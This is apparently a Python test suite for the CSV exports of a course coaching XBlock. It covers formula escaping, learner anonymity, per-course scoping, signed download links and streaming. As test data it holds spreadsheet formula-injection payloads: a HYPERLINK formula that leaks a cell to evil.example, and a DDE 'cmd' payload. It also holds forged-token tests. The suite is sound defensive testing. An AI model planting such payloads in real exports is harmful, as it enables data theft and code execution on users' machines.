"""CSV exports of a course's requests and messages: their columns, cells a spreadsheet will not run,
who the learner is shown as, one course only, the coach-only `export_csv` handler, the signed link it
redirects to, and streaming.

The data is made through coach_xblock.workflow on the real test database, SQLite, PostgreSQL or MariaDB (the streaming
tests bulk-create rows as setup); every export is parsed back with the csv module.
"""
import csv
import dataclasses
import gc
import json
import re
import time
import tracemalloc
from datetime import UTC, datetime, timedelta
from itertools import count
from urllib.parse import quote

import pytest
from django.core import signing
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from workbench.runtime_util import reset_global_state

from coach_xblock import exports, workflow
from coach_xblock.domain import Person
from coach_xblock.exports import spreadsheet_safe
from coach_xblock.models import CheckinMessage, CheckinRequest

COURSE = "course-v1:Demo+Career+2026"  # the course of the conftest's points
OTHER_COURSE = "course-v1:Other+Course+2026"
T0 = datetime(2026, 3, 10, 9, 0, tzinfo=UTC)

REQUEST_HEADER = [
    "request_id", "learner", "point_id", "point_title", "topic", "status", "created_at", "first_answered_at",
    "closed_at", "expected_response_hours", "due_at", "rating", "rating_comment", "working_on", "stuck_on", "tried",
    "link",
]
MESSAGE_HEADER = ["request_id", "message_id", "author_role", "created_at", "body"]

# What people may type that a spreadsheet would run as a formula.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")'
PHONE = "+33 6 12 34 56 78: call me, I am stuck"
MINUS = "-1 attempt so far; the test did not help"
AT_SUM = "@SUM(1)"
CMD = "=cmd|' /C calc'!A0"

pytestmark = [
    pytest.mark.django_db,
    # The workbench runtime reads the deprecated Runtime.user_id on every block it builds.
    pytest.mark.filterwarnings("ignore::xblock.exceptions.UserIdDeprecationWarning"),
]


@pytest.fixture(autouse=True)
def in_english():
    with translation.override("en"):
        yield


# ---------------------------------------------------------------- helpers


def parse(lines):
    """The rows of the CSV made of `lines` (an export's generator, or bytes of a download)."""
    text = lines.decode("utf-8") if isinstance(lines, bytes) else "".join(lines)
    return list(csv.reader(text.splitlines(keepends=True)))


def as_dicts(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def requests_csv(course=COURSE):
    return as_dicts(parse(exports.export_requests(course)))


def messages_csv(course=COURSE):
    return as_dicts(parse(exports.export_messages(course)))


@pytest.fixture
def learners():
    """Mathilde and Paul as Open edX knows them: an anonymous id, a username, a name and an email."""
    return (
        Person(user_id="a1b2c3-mathilde", display_name="Mathilde Dupont", email="mathilde@example.org",
               username="mathilde.dupont"),
        Person(user_id="d4e5f6-paul", display_name="Paul Martin", email="paul@example.org", username="paul_m"),
    )


@pytest.fixture
def story(skills_point, feasibility_point, learners, karim, lea):
    """Mathilde's request at skills, typed like formulas, answered twice and resolved; Paul waits at
    feasibility; someone asks in another course. Returns (mathilde's, paul's) requests, reloaded."""
    mathilde, paul = learners
    mine = workflow.ask_for_help(skills_point, mathilde, working_on=PHONE, stuck_on=HYPERLINK, tried=MINUS,
                                 link="https://example.org/results", client_token="m1", now=T0)
    workflow.claim_request(COURSE, mine.pk, karim, now=T0 + timedelta(hours=3))
    workflow.coach_reply(COURSE, mine.pk, karim, AT_SUM, now=T0 + timedelta(hours=3))
    workflow.learner_reply(skills_point, mathilde, mine.pk, "=1+1 is what I tried next", now=T0 + timedelta(hours=4))
    workflow.claim_request(COURSE, mine.pk, lea, now=T0 + timedelta(hours=5))
    workflow.coach_reply(COURSE, mine.pk, lea, 'Good, now "group" them,\nthen rank them.',
                         now=T0 + timedelta(hours=5))
    workflow.resolve_request(skills_point, mathilde, mine.pk, 4, CMD, now=T0 + timedelta(days=1))
    pauls = workflow.ask_for_help(feasibility_point, paul, working_on="Opening a bike repair shop.",
                                  stuck_on="I do not know whether the town needs one more shop.",
                                  tried="Counted the shops nearby.", client_token="p1", now=T0 + timedelta(hours=1))
    elsewhere = dataclasses.replace(skills_point, course_key=OTHER_COURSE, point_id="block-v1:Other+skills")
    other = workflow.ask_for_help(elsewhere, Person("anon-other", "Other Learner", username="other"),
                                  working_on="Another course", stuck_on="Stuck somewhere else entirely.",
                                  tried="Nothing", client_token="o1", now=T0)
    workflow.claim_request(OTHER_COURSE, other.pk, karim, now=T0)
    workflow.coach_reply(OTHER_COURSE, other.pk, karim, "An answer in another course.", now=T0)
    return CheckinRequest.objects.get(pk=mine.pk), CheckinRequest.objects.get(pk=pauls.pk)


# ---------------------------------------------------------------- spreadsheet_safe


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"),
    (HYPERLINK, "'" + HYPERLINK),
    ("+33 6 12", "'+33 6 12"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("plain text = fine", "plain text = fine"),
    ("a cell with @ and + inside", "a cell with @ and + inside"),
    ("'already quoted", "'already quoted"),
    ("", ""),
    (None, ""),
    (42, "42"),
    (datetime(2026, 3, 10, 9, 0, tzinfo=UTC), "2026-03-10 09:00:00+00:00"),
])
def test_spreadsheet_safe_quotes_what_starts_like_a_formula(value, safe):
    assert spreadsheet_safe(value) == safe


# ---------------------------------------------------------------- requests export


def test_requests_export_has_a_header_and_one_line_per_request(story):
    rows = parse(exports.export_requests(COURSE))

    assert rows[0] == REQUEST_HEADER
    assert len(rows) == 1 + 2
    assert all(len(row) == len(REQUEST_HEADER) for row in rows)


def test_requests_export_lines_are_csv_lines(story):
    lines = list(exports.export_requests(COURSE))

    assert len(lines) == 3  # a cell with a line break stays inside its quoted line
    assert all(line.endswith("\r\n") for line in lines)


def test_requests_export_gives_each_request_as_it_stands(story, skills_point):
    mine, pauls = story

    rows = {row["request_id"]: row for row in requests_csv()}

    assert list(rows) == [str(mine.pk), str(pauls.pk)]  # by id
    assert rows[str(mine.pk)] == {
        "request_id": str(mine.pk),
        "learner": "a1b2c3-mathilde",
        "point_id": skills_point.point_id,
        "point_title": "Naming my skills",
        "topic": "skills",
        "status": "resolved",
        "created_at": "2026-03-10 09:00:00+00:00",
        "first_answered_at": "2026-03-10 12:00:00+00:00",
        "closed_at": "2026-03-11 09:00:00+00:00",
        "expected_response_hours": "48",
        "due_at": "2026-03-12 13:00:00+00:00",  # 48 h after the learner's reply
        "rating": "4",
        "rating_comment": "'" + CMD,
        "working_on": "'" + PHONE,
        "stuck_on": "'" + HYPERLINK,
        "tried": "'" + MINUS,
        "link": "https://example.org/results",
    }
    paul = rows[str(pauls.pk)]
    assert (paul["status"], paul["first_answered_at"], paul["closed_at"], paul["rating"]) == ("open", "", "", "")
    assert paul["stuck_on"] == "I do not know whether the town needs one more shop."


def test_no_cell_of_the_exports_starts_like_a_formula(story):
    for rows in (parse(exports.export_requests(COURSE)), parse(exports.export_messages(COURSE))):
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_an_authors_title_starting_like_a_formula_is_quoted(skills_point, learners):
    point = dataclasses.replace(skills_point, title="@Home: -my project +")
    workflow.ask_for_help(point, learners[0], working_on="w", stuck_on="Twenty characters at least.", tried="t",
                          client_token="t1", now=T0)

    assert requests_csv()[0]["point_title"] == "'@Home: -my project +"


def test_text_with_commas_quotes_and_line_breaks_comes_back_whole(skills_point, learners):
    working_on = 'Line one, with a comma;\n"quoted" line two,\nand a third'
    workflow.ask_for_help(skills_point, learners[0], working_on=working_on, stuck_on="Stuck, \"truly\", here.",
                          tried="é, ü, 漢字", client_token="t1", now=T0)

    row = requests_csv()[0]

    assert (row["working_on"], row["stuck_on"], row["tried"]) == (working_on, 'Stuck, "truly", here.', "é, ü, 漢字")


def test_learners_are_their_anonymous_ids_by_default(story, learners):
    mathilde, paul = learners

    text = "".join(exports.export_requests(COURSE)) + "".join(exports.export_messages(COURSE))

    assert [row["learner"] for row in requests_csv()] == [mathilde.user_id, paul.user_id]
    for person in learners:  # nothing else that names them
        for kept_out in (person.username, person.display_name, person.email):
            assert kept_out not in text


@override_settings(COACH_XBLOCK={"EXPORT_USERNAMES": True})
def test_learners_are_their_usernames_when_the_operator_allows_it(story, learners):
    mathilde, paul = learners

    rows = parse(exports.export_requests(COURSE))

    assert rows[0] == REQUEST_HEADER
    assert [row["learner"] for row in as_dicts(rows)] == ["mathilde.dupont", "paul_m"]
    assert mathilde.user_id not in "".join(exports.export_requests(COURSE))


def test_the_usernames_setting_is_read_at_each_export(story):
    with override_settings(COACH_XBLOCK={"EXPORT_USERNAMES": True}):
        assert requests_csv()[0]["learner"] == "mathilde.dupont"
    with override_settings(COACH_XBLOCK={"EXPORT_USERNAMES": False}):
        assert requests_csv()[0]["learner"] == "a1b2c3-mathilde"


def test_requests_export_holds_only_the_courses_requests(story):
    mine, pauls = story

    assert [row["request_id"] for row in requests_csv()] == [str(mine.pk), str(pauls.pk)]
    others = requests_csv(OTHER_COURSE)
    assert [row["learner"] for row in others] == ["anon-other"]
    assert requests_csv("course-v1:No+Such+Course") == []
    assert parse(exports.export_requests("course-v1:No+Such+Course")) == [REQUEST_HEADER]


# ---------------------------------------------------------------- messages export


def test_messages_export_lists_the_courses_messages_thread_by_thread(story):
    mine, _pauls = story

    rows = parse(exports.export_messages(COURSE))

    assert rows[0] == MESSAGE_HEADER
    messages = as_dicts(rows)
    ids = list(CheckinMessage.objects.filter(request=mine).order_by("created_at", "id").values_list("id", flat=True))
    assert [(m["request_id"], m["message_id"], m["author_role"], m["created_at"], m["body"]) for m in messages] == [
        (str(mine.pk), str(ids[0]), "coach", "2026-03-10 12:00:00+00:00", "'" + AT_SUM),
        (str(mine.pk), str(ids[1]), "learner", "2026-03-10 13:00:00+00:00", "'=1+1 is what I tried next"),
        (str(mine.pk), str(ids[2]), "coach", "2026-03-10 14:00:00+00:00", 'Good, now "group" them,\nthen rank them.'),
    ]


def test_messages_export_holds_only_the_courses_messages(story):
    assert "An answer in another course." not in "".join(exports.export_messages(COURSE))
    assert [m["body"] for m in messages_csv(OTHER_COURSE)] == ["An answer in another course."]
    assert parse(exports.export_messages("course-v1:No+Such+Course")) == [MESSAGE_HEADER]


def test_messages_export_names_no_author(story, karim, lea, learners):
    text = "".join(exports.export_messages(COURSE))

    for name in (karim.display_name, lea.display_name, learners[0].display_name, learners[0].user_id):
        assert name not in text


# ---------------------------------------------------------------- streaming


def _seed_requests(total, course=COURSE):
    """Test setup: exactly `total` plain requests in `course`, bulk-created."""
    CheckinRequest.objects.all().delete()
    CheckinRequest.objects.bulk_create(
        [
            CheckinRequest(
                course_key=course, point_id="block-v1:Demo+Career+2026+type@coach_checkin+block@skills",
                point_title="Naming my skills", topic="skills", learner_id=f"anon-{number}",
                learner_name=f"Learner {number}", client_token=f"t{number}", working_on="My project " * 6,
                stuck_on="I cannot name my skills from my previous job " * 4, tried="The online test " * 4,
                created_at=T0 + timedelta(seconds=number), due_at=T0 + timedelta(hours=48),
            )
            for number in range(total)
        ],
        batch_size=2000,
    )


def _seed_messages(total, course=COURSE):
    """Test setup: exactly `total` messages on a few requests of `course`."""
    _seed_requests(10, course)
    request_ids = list(CheckinRequest.objects.values_list("id", flat=True))
    CheckinMessage.objects.bulk_create(
        [
            CheckinMessage(request_id=request_ids[number % 10], author_role=("coach", "learner")[number % 2],
                           author_id="x", author_name="X", body="A message of a long thread " * 8,
                           created_at=T0 + timedelta(seconds=number))
            for number in range(total)
        ],
        batch_size=2000,
    )


EXPORTS = {
    "requests": (exports.export_requests, _seed_requests),
    "messages": (exports.export_messages, _seed_messages),
}


def _peak_while_reading(make_chunks):
    """How many chunks the iterable `make_chunks()` gives to its end, and the peak of Python memory
    allocated meanwhile, in bytes (from the call of `make_chunks` on)."""
    gc.collect()
    tracemalloc.start()
    try:
        chunks = sum(1 for _chunk in make_chunks())
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return chunks, peak


def _export_peak(export):
    """The lines of the whole export and the peak of Python memory allocated while reading them."""
    return _peak_while_reading(lambda: export(COURSE))


@pytest.mark.parametrize("name", list(EXPORTS))
def test_an_export_reads_nothing_before_its_first_row_is_asked_for(name):
    export, seed = EXPORTS[name]
    seed(50)

    with CaptureQueriesContext(connection) as captured:
        lines = export(COURSE)
        header = next(lines)
    assert captured.captured_queries == []
    assert header.startswith(("request_id,", "request_id,message_id"))

    assert len(list(lines)) == 50


@pytest.mark.parametrize("name", list(EXPORTS))
def test_an_export_of_5000_rows_reads_them_in_a_few_queries(name):
    export, seed = EXPORTS[name]
    seed(5000)
    assert exports.EXPORT_CHUNK < 5000  # so that these rows need several chunks

    with CaptureQueriesContext(connection) as captured:
        lines = sum(1 for _line in export(COURSE))

    assert lines == 1 + 5000
    assert len(captured.captured_queries) <= 3, [query["sql"] for query in captured.captured_queries]


def test_chunks_give_every_row_once_and_in_order_where_requests_and_times_tie_across_chunks(monkeypatch):
    """Each chunk starts after the last row of the one before: messages of one request at one time, cut by a
    chunk's end, are neither lost nor repeated, and every file keeps its order."""
    monkeypatch.setattr(exports, "EXPORT_CHUNK", 4)
    _seed_requests(5)
    request_ids = sorted(CheckinRequest.objects.values_list("id", flat=True))
    CheckinMessage.objects.bulk_create([
        CheckinMessage(request_id=request_id, author_role="coach", author_id="x", author_name="X",
                       body=f"Answer {number}", created_at=T0 + timedelta(minutes=number // 3))
        for request_id in reversed(request_ids) for number in range(7)
    ])

    assert [row["request_id"] for row in requests_csv()] == [str(pk) for pk in request_ids]
    assert [(row["request_id"], row["message_id"]) for row in messages_csv()] == [
        (str(request_id), str(pk))
        for request_id, pk in CheckinMessage.objects.order_by("request_id", "created_at", "id").values_list(
            "request_id", "id")
    ]


@pytest.mark.parametrize("name", list(EXPORTS))
def test_an_exports_peak_memory_stays_flat_when_the_rows_double(name):
    """Chunked reading: 6000 rows take about the memory of 3000 (measured about 1.3x: the last
    chunk of 3000 is half full), where reading all rows at once takes about 2x."""
    export, seed = EXPORTS[name]
    seed(200)
    _export_peak(export)  # warm up: compiled queries, caches
    seed(3000)
    small_lines, small = _export_peak(export)
    seed(6000)
    large_lines, large = _export_peak(export)

    assert (small_lines, large_lines) == (3001, 6001)
    assert large / small <= 1.5, (small, large)


# ---------------------------------------------------------------- the export_csv handler and its download

ENGLISH_UNIT = "/scenario/coach_checkin.1/"
FRENCH_UNIT = "/scenario/coach_checkin.0/"
MATHILDE, PAUL = "mathilde", "paul"
KARIM = "coach_karim"
DOWNLOAD_PATH = "/coach-xblock/export/"
_tokens = count(1)


def _usage_ids(client, unit):
    html = client.get(f"{unit}?student={MATHILDE}").content.decode()
    usage_ids = re.findall(r"data-usage='([^']*\.coach_checkin\.[^']*)'", html)
    assert len(usage_ids) == 2, usage_ids
    return usage_ids


def _course_of(usage_id):
    """The workbench course of a block: its scenario."""
    return usage_id.split(".", 1)[0]


def _post(client, usage_id, handler, student, payload):
    response = client.post(f"/handler/{usage_id}/{handler}/?student={quote(student)}", data=json.dumps(payload),
                           content_type="application/json")
    assert response.status_code == 200, response.content
    return response.json()


def _ask(client, usage_id, student, stuck_on="I know my job but I cannot name my skills."):
    payload = {"working_on": "My project", "stuck_on": stuck_on, "tried": "The online test", "link": "",
               "client_token": f"token-{next(_tokens)}"}
    return _post(client, usage_id, "ask", student, payload)["request"]["id"]


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def download(client, usage_id, student, query="file=requests"):
    """GET the export handler as `student` and, like a browser, the link it redirects to; (the last
    response, its body bytes). The test client's own `follow` needs a Django redirect, where the
    workbench turns the block's webob redirect into a plain HttpResponse with a Location header."""
    response = client.get(f"/handler/{usage_id}/export_csv/?student={quote(student)}&{query}")
    if response.status_code == 302:
        response = client.get(response["Location"])
    return response, _body(response)


def export_link(client, usage_id, query="file=requests"):
    """The signed download link the export handler sends Karim to."""
    response = client.get(f"/handler/{usage_id}/export_csv/?student={KARIM}&{query}")
    assert response.status_code == 302, _body(response)
    return response["Location"]


def fetch(client, link):
    """GET a download link, as any browser holding it would (no ?student=); (response, body bytes)."""
    response = client.get(link)
    return response, _body(response)


@pytest.fixture
def units(client):
    """The English and French units' blocks, with requests asked in both courses through the handlers."""
    reset_global_state()
    english, french = _usage_ids(client, ENGLISH_UNIT), _usage_ids(client, FRENCH_UNIT)
    asked = _ask(client, english[0], MATHILDE, stuck_on=HYPERLINK)
    _post(client, english[0], "claim", KARIM, {"request_id": asked})
    _post(client, english[0], "coach_reply", KARIM, {"request_id": asked, "body": AT_SUM})
    _ask(client, english[1], PAUL)
    _ask(client, french[0], PAUL, stuck_on="Je ne sais pas nommer mes compétences.")
    return english, french


@pytest.mark.parametrize("query", ["file=requests", "file=messages", "", "file=nope"])
def test_export_handler_refuses_learners(client, units, query):
    english, _french = units

    response, body = download(client, english[0], MATHILDE, query)

    assert response.status_code == 403
    assert not response.has_header("Location"), "no link for a learner"
    assert response["Content-Type"].startswith("text/plain")
    assert "coaches" in body.decode()
    assert b"request_id" not in body


def test_export_handler_refuses_an_unknown_file(client, units):
    english, _french = units

    response, body = download(client, english[0], KARIM, "file=nope")

    assert response.status_code == 400
    assert not response.has_header("Location")
    assert "requests or messages" in body.decode()


def test_export_handler_sends_coaches_to_a_signed_download_link(client, units):
    english, _french = units

    response = client.get(f"/handler/{english[0]}/export_csv/?student={KARIM}&file=requests")

    assert response.status_code == 302
    assert response["Location"].startswith(DOWNLOAD_PATH)
    assert "no-store" in response["Cache-Control"]
    assert response.content == b"", "the handler sends no data itself"


@pytest.mark.parametrize("query", ["file=requests", ""])
def test_export_handler_gives_coaches_the_courses_requests_as_a_csv_attachment(client, units, query):
    english, _french = units

    response, body = download(client, english[1], KARIM, query)

    assert response.status_code == 200
    assert response.request["PATH_INFO"].startswith(DOWNLOAD_PATH)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert re.search(r'filename="coach-requests-[A-Za-z0-9-]+\.csv"$', disposition), disposition
    rows = parse(body)
    assert rows[0] == REQUEST_HEADER
    requests = as_dicts(rows)
    assert [(row["learner"], row["status"]) for row in requests] == [(MATHILDE, "answered"), (PAUL, "open")]
    assert requests[0]["stuck_on"] == "'" + HYPERLINK
    assert all(row["point_id"] in english for row in requests)  # not the French course's request


def test_export_handler_gives_coaches_the_courses_messages(client, units):
    english, french = units

    response, body = download(client, english[0], KARIM, "file=messages")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.search(r'^attachment; filename="coach-messages-[A-Za-z0-9-]+\.csv"$', response["Content-Disposition"])
    messages = as_dicts(parse(body))
    assert [(m["author_role"], m["body"]) for m in messages] == [("coach", "'" + AT_SUM)]

    _response, french_body = download(client, french[0], KARIM, "file=messages")
    assert parse(french_body) == [MESSAGE_HEADER]


@pytest.mark.parametrize("name", list(EXPORTS))
def test_the_export_download_is_streamed_to_the_coach(client, units, name):
    english, _french = units

    response, body = download(client, english[0], KARIM, f"file={name}")

    assert response.status_code == 200
    assert response.streaming
    export, _seed = EXPORTS[name]
    assert body == "".join(export(_course_of(english[0]))).encode("utf-8"), "the export's own lines, in UTF-8"


def _download_peak(client, link):
    """The lines of the download of `link` and the peak of Python memory allocated while getting it."""
    return _peak_while_reading(lambda: client.get(link).streaming_content)


@pytest.mark.parametrize("name", list(EXPORTS))
def test_the_downloads_peak_memory_stays_flat_when_the_rows_double(client, name):
    """Streamed: 6000 rows take about the memory of 3000, as the export itself does (measured 1.3x);
    the same download joined in memory before it is sent measured 1.52x (requests) and 1.83x (messages)."""
    reset_global_state()
    usage_id = _usage_ids(client, ENGLISH_UNIT)[0]
    _export, seed = EXPORTS[name]
    course = _course_of(usage_id)
    seed(200, course)
    _download_peak(client, export_link(client, usage_id, f"file={name}"))  # warm up: compiled queries, caches
    seed(3000, course)
    small_lines, small = _download_peak(client, export_link(client, usage_id, f"file={name}"))
    seed(6000, course)
    large_lines, large = _download_peak(client, export_link(client, usage_id, f"file={name}"))

    assert (small_lines, large_lines) == (3001, 6001)
    assert large / small <= 1.4, (small, large)


def test_a_courses_link_never_yields_another_courses_rows(client, units):
    english, french = units

    english_rows = as_dicts(parse(fetch(client, export_link(client, english[0]))[1]))
    french_rows = as_dicts(parse(fetch(client, export_link(client, french[1]))[1]))

    assert english_rows and all(row["point_id"] in english for row in english_rows)
    assert [(row["learner"], row["point_id"]) for row in french_rows] == [(PAUL, french[0])]
    assert not {row["request_id"] for row in english_rows} & {row["request_id"] for row in french_rows}


def _tampered_links(client, english, french):
    english_link, french_link = export_link(client, english[0]), export_link(client, french[0])
    token = english_link[len(DOWNLOAD_PATH):-1]
    payload, stamp_and_signature = token.split(":", 1)
    french_payload = french_link[len(DOWNLOAD_PATH):-1].split(":", 1)[0]
    last = "A" if token[-1] != "A" else "B"
    foreign = signing.dumps({"course": _course_of(english[0]), "file": "requests", "user": KARIM}, salt="other.salt")
    return {
        "signature changed": f"{DOWNLOAD_PATH}{token[:-1]}{last}/",
        "another course's payload": f"{DOWNLOAD_PATH}{french_payload}:{stamp_and_signature}/",
        "signed for another purpose": f"{DOWNLOAD_PATH}{foreign}/",
        "not a token": f"{DOWNLOAD_PATH}not-a-token/",
    }


def test_a_tampered_link_is_refused_with_nothing_exported(client, units):
    english, french = units

    for what, link in _tampered_links(client, english, french).items():
        response, body = fetch(client, link)

        assert response.status_code == 403, what
        assert response["Content-Type"] == "text/plain; charset=utf-8", what
        assert body.decode() == "This download link is not valid. Download the file from the coach queue.", what


def test_a_link_to_a_file_that_is_not_an_export_is_refused(client, units):
    english, _french = units
    link = reverse("coach_xblock:export_download",
                   kwargs={"token": exports.export_token(_course_of(english[0]), "passwords", KARIM)})

    response, body = fetch(client, link)

    assert response.status_code == 400
    assert body.decode() == "file: choose requests or messages."


def test_a_link_expires_after_the_operators_lifetime_read_at_each_download(client, units):
    english, _french = units
    link = export_link(client, english[0])

    time.sleep(1.1)
    with override_settings(COACH_XBLOCK={"EXPORT_LINK_SECONDS": 1}):
        response, body = fetch(client, link)

    assert response.status_code == 410
    assert body.decode() == "This download link has expired. Download the file again from the coach queue."
    assert b"request_id" not in body
    assert fetch(client, link)[0].status_code == 200, "within the default 60 seconds it was still good"


def test_a_refused_link_says_why_in_the_coachs_language(client, units):
    english, _french = units
    link = export_link(client, english[0])

    response = client.get(link[:-2] + "x/", HTTP_ACCEPT_LANGUAGE="fr")

    assert response.status_code == 403
    assert response.content.decode() == (
        "Ce lien de téléchargement n'est pas valide. Téléchargez le fichier depuis la file des demandes."
    )


def test_the_download_answers_get_only(client, units):
    english, _french = units
    link = export_link(client, english[0])

    response = client.post(link)

    assert response.status_code == 405
    assert response["Allow"] == "GET"
    assert b"request_id" not in response.content
